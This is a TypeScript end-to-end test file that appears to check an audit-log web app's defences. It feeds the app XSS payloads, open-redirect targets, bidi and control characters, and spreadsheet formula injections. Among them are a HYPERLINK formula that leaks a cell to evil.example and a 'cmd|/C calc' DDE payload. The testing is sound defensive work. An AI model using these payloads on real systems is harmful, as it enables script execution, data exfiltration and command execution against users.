import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parseCsv } from 'hucre/csv'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { readWithExceljs } from '../packages/server/src/search/export/testing/read-workbook.ts'
import { paths } from '../packages/web/src/paths.ts'
import { openBrowser } from './browser.ts'
import { QuietNetwork } from './quiet-network.ts'
import { startServer, type ServerProcess } from './server-process.ts'

const apiKey = 'e2e_bootstrap_key_0123456789abcdef'
const admin = { email: 'grace@acme.com', password: 'violet tractor melts quietly' }

/** What runs, opens, breaks or hides something where text is taken for anything else. `ran` is what it would set. */
const texts = {
  image: '<img src=x onerror="window.ran=1">',
  script: '<script>window.ran=2</script>',
  attribute: `"' onmouseover="window.ran=3" autofocus onfocus="window.ran=3" x="`,
  vector: '"><svg onload=window.ran=4></svg><style>*{display:none}</style>',
  address: 'javascript:window.ran=5//https://evil.example/',
  frame: '<iframe srcdoc="<script>parent.ran=6</script>"></iframe>',
  template: "{{constructor.constructor('window.ran=7')()}} ${window.ran=7} <%= ran %>",
  formula: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  markdown: '[click](javascript:window.ran=8) ![x](x) `code` **bold**',
  entity: '&lt;b&gt; &amp; &#x3c;script&#x3e; &nbsp;',
  prototype: '__proto__',
  long: 'W'.repeat(120),
} as const
/** Not allowed in names, where one could look like another; events are kept as they were sent. */
const onlyInEvents = {
  direction: 'user \u202egnp.exe\u202c \u2066isolated\u2069 \u200bzero',
  control: 'bell\u0007 escape\u001b[31m null\u0000 tab\t line\nend',
  longer: 'M'.repeat(1000),
  combining: `Z${'\u0300\u0301'.repeat(200)}algo`,
} as const
const all = Object.entries({ ...texts, ...onlyInEvents })

let server: ServerProcess
let browser: Browser
let context: BrowserContext
let page: Page
let network: QuietNetwork
let folder: string
const signs: string[] = []
const eventIds = new Map<string, string>()

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'aleph-hostile-'))
  const env = {
    AUDIT_BOOTSTRAP_API_KEY: apiKey,
    AUDIT_ADMIN_EMAIL: admin.email,
    AUDIT_ADMIN_PASSWORD: admin.password,
    AUDIT_ADMIN_NAME: texts.image,
  }
  ;[server, browser] = await Promise.all([startServer({ env }), openBrowser()])
  context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
  page = await openPage()
  await fillWithHostileText()
})
afterAll(async () => {
  await browser?.close()
  await server?.stop()
  await rm(folder, { recursive: true, force: true })
})

/** A page that notes every sign of text being run: dialogs, errors, violations of the policy, other addresses. */
async function openPage(): Promise<Page> {
  const opened = await context.newPage()
  network = new QuietNetwork(opened)
  opened.setDefaultTimeout(10_000)
  opened.on('dialog', (dialog) => {
    signs.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  opened.on('pageerror', (error) => signs.push(`an error on ${opened.url()}: ${String(error)}`))
  opened.on('popup', (popup) => signs.push(`a window: ${popup.url()}`))
  opened.on('request', (request) => {
    const address = request.url()
    if (!address.startsWith(server.url) && !address.startsWith('data:')) signs.push(`a request to ${address}`)
  })
  // Chromium tells every violation there.
  opened.on('console', (message) => {
    if (/content security policy/i.test(message.text())) signs.push(`a violation: ${message.text()}`)
  })
  return opened
}

async function call(method: string, path: string, body?: unknown): Promise<Record<string, unknown>> {
  const answer = await fetch(`${server.url}${path}`, {
    method,
    headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  })
  const text = await answer.text()
  if (!answer.ok) throw new Error(`${method} ${path} answers ${answer.status}: ${text}`)
  // The API answers with JSON objects.
  return JSON.parse(text) as Record<string, unknown>
}

async function fillWithHostileText(): Promise<void> {
  for (const [name, text] of all) {
    const short = text.slice(0, 1024)
    const { ids } = await call('POST', '/api/v1/events', {
      type: `hostile_${name}`,
      actor: { type: 'user', id: short, name: short, email: short },
      outcome: 'failure',
      data: {
        sql: `select '${text}' from "${text}"`,
        database: text,
        login: text,
        durationMs: 1,
        error: { code: text, message: text },
        [text]: { [text]: [text, { [text]: text }] },
      },
      targets: [{ type: short, id: short, name: short }],
      context: { ip: short, userAgent: short, application: short, sessionId: short, requestId: short },
    })
    eventIds.set(name, (ids as string[])[0] ?? '')
  }
  const log = join(folder, 'postgresql.json')
  await writeFile(log, '')
  for (const [i, text] of Object.values(texts).entries()) {
    await call('POST', '/api/v1/keys', { name: text, scopes: ['events:read'] })
    await call('POST', '/api/v1/integrations', {
      kind: 'postgres_log',
      name: text,
      settings: { path: log, logins: [{ login: text, name: text, email: `ann${i}@acme.com` }] },
    })
    const { link } = await call('POST', '/api/v1/members', { email: `member${i}@acme.com`, role: 'auditor' })
    if (i > 2) continue
    const token = new URL(String(link)).searchParams.get('token') ?? ''
    await call('POST', `/api/v1/invitations/${encodeURIComponent(token)}`, {
      name: text,
      password: `amber violin sleeps outdoors ${i}`,
    })
  }
}

/** Looks at the page when it shows anything: nothing ran, nothing was made of the texts, and it is as wide as its window. */
async function expectHarmless(what: string): Promise<void> {
  await page.waitForFunction(() => document.body.innerText.trim() !== '')
  const found = await page.evaluate(() => ({
    ran: (globalThis as { ran?: unknown }).ran,
    elements: [
      ...document.querySelectorAll(
        'img[src="x"], iframe, svg[onload], [onerror], [onmouseover], [onfocus], a[href^="javascript:" i], ' +
          // A search for the text, or the page about it, in this product, are the only addresses that may hold it.
          'a[href*="evil.example"]:not([href^="/audit-log?q="], [href^="/insights/"]), script:not([src])',
      ),
    ].map((element) => element.outerHTML.slice(0, 200)),
    // The page is exactly as wide as its window: nothing hangs over.
    overhang: document.documentElement.scrollWidth - document.documentElement.clientWidth,
  }))
  expect(found, what).toEqual({ ran: undefined, elements: [], overhang: 0 })
  expect(signs, what).toEqual([])
}

/** Waits until nothing is being loaded. */
async function settle(): Promise<void> {
  await page.waitForLoadState('load')
  await network.untilQuiet()
}

const visibleText = async (): Promise<string> => page.evaluate(() => document.body.innerText)

describe('hostile text', () => {
  it('does nothing in the addresses of pages that strangers see', async () => {
    for (const path of [paths.signIn, paths.setup, paths.invitation, paths.passwordReset, '/nowhere']) {
      for (const text of [texts.vector, texts.address]) {
        const query = ['token', 'next', 'q', text].map(
          (name) => `${encodeURIComponent(name)}=${encodeURIComponent(text)}`,
        )
        await page.goto(`${server.url}${path}?${query.join('&')}#${encodeURIComponent(text)}`)
        await settle()
        await expectHarmless(`${path} with ${text}`)
      }
    }
  })

  it('does not lead a sign-in to another place', async () => {
    for (const next of [texts.address, '//evil.example/', '/\\evil.example', 'https://evil.example/']) {
      await context.clearCookies()
      await page.goto(`${server.url}${paths.signIn}?next=${encodeURIComponent(next)}`)
      await page.getByLabel('Email').fill(admin.email)
      await page.getByLabel('Password', { exact: true }).fill(admin.password)
      await page.getByRole('button', { name: 'Sign in' }).click()
      await page.waitForURL(`${server.url}${paths.home}`)
      await page.getByRole('heading', { name: 'Overview' }).waitFor()
      await expectHarmless(`next=${next}`)
    }
  })

  it('is shown as text on every page', async () => {
    const shownOn: Partial<Record<keyof typeof paths, readonly string[]>> = {
      integrations: Object.values(texts),
      members: [texts.image, texts.script, texts.attribute],
      apiKeys: Object.values(texts),
    }
    for (const [name, path] of Object.entries(paths)) {
      // Addresses of one thing need its name.
      if (path.includes('$')) continue
      await page.goto(`${server.url}${path}`)
      await settle()
      await expectHarmless(name)
      // The names of `paths` are its keys.
      const expected = shownOn[name as keyof typeof paths] ?? []
      const shown = await visibleText()
      for (const text of expected) expect(shown, name).toContain(text)
    }
    for (const width of [700, 400]) {
      await page.setViewportSize({ width, height: 800 })
      for (const path of [paths.auditLog, paths.integrations, paths.members, paths.apiKeys]) {
        await page.goto(`${server.url}${path}`)
        await settle()
        await expectHarmless(`${path} at ${width} px`)
      }
    }
    await page.setViewportSize({ width: 1280, height: 800 })
  })

  it.each(all)('is shown as text in the table and in the event: %s', async (name, text) => {
    await page.goto(
      `${server.url}${paths.auditLog}/${eventIds.get(name)}?q=${encodeURIComponent(`type:hostile_${name}`)}`,
    )
    const panel = page.getByRole('complementary', { name: 'Event' })
    await panel.getByText(`hostile_${name}`).first().waitFor()
    await settle()
    await expectHarmless(`the event ${name}`)
    // How control characters and spaces are shown is the page's own choice.
    // oxlint-disable-next-line no-control-regex -- control characters are what it looks for
    const [word = ''] = text.split(/[\u0000-\u001f\u200b-\u206f ]/)
    expect(word).not.toBe('')
    expect(await panel.innerText()).toContain(word)
    const row = page.getByRole('row').filter({ hasText: `hostile_${name}` })
    expect(await row.first().innerText()).toContain(word.slice(0, 20))
    await page.setViewportSize({ width: 400, height: 800 })
    await expectHarmless(`the event ${name} on a telephone`)
    await page.setViewportSize({ width: 1280, height: 800 })
  })

  it.each(all)(
    'is only searched for where it is typed into the search or written into the address: %s',
    async (_name, text) => {
      const names = ['q', 'from', 'to', 'range', 'zone', 'columns', 'event', text.toWellFormed()]
      const query = names.map((name) => `${encodeURIComponent(name)}=${encodeURIComponent(text)}`).join('&')
      await page.goto(`${server.url}${paths.auditLog}/${encodeURIComponent(text.slice(0, 150))}?${query}`)
      await settle()
      await expectHarmless('as the id of an event, and in every parameter')
      await page.goto(`${server.url}${paths.auditLog}`)
      const box = page.getByLabel('Search the audit log')
      await box.fill(text)
      await expectHarmless('typed')
      await box.press('Enter')
      await settle()
      await expectHarmless('searched')
    },
  )

  it('comes back from every export as it was', async () => {
    const query = `q=${encodeURIComponent('type:hostile_*')}`
    const download = async (format: string, more = ''): Promise<Buffer> => {
      const answer = await fetch(`${server.url}/api/v1/events/export?format=${format}&${query}${more}`, {
        headers: { authorization: `Bearer ${apiKey}` },
      })
      expect(answer.status).toBe(200)
      return Buffer.from(await answer.arrayBuffer())
    }
    const sent = new Map(all.map(([name, text]) => [`hostile_${name}`, text]))
    await vi.waitFor(async () => {
      const lines = (await download('jsonl')).toString().trim().split('\n')
      expect(lines).toHaveLength(all.length)
      for (const line of lines) {
        const event = JSON.parse(line) as {
          type: string
          actor: { name: string }
          data: { database: string }
        }
        expect([event.actor.name, event.data.database]).toEqual([sent.get(event.type), sent.get(event.type)])
      }
    })
    const csv = parseCsv((await download('csv', '&columns=type,name')).toString().replace(/^\ufeff/, ''))
    expect(csv.slice(1).map((row) => row[0])).toHaveLength(all.length)
    for (const [type, name] of csv.slice(1)) {
      const text = sent.get(String(type)) ?? ''
      // A spreadsheet would calculate what begins like a formula: an apostrophe before it says that it is text.
      expect([text, `'${text}`]).toContain(name)
    }
    const [sheet] = [...(await readWithExceljs(await download('xlsx', '&columns=type,name'))).values()]
    for (const [type, name] of sheet?.slice(1) ?? []) expect(name).toBe(sent.get(String(type)))
    expect(sheet).toHaveLength(all.length + 1)
  })
})
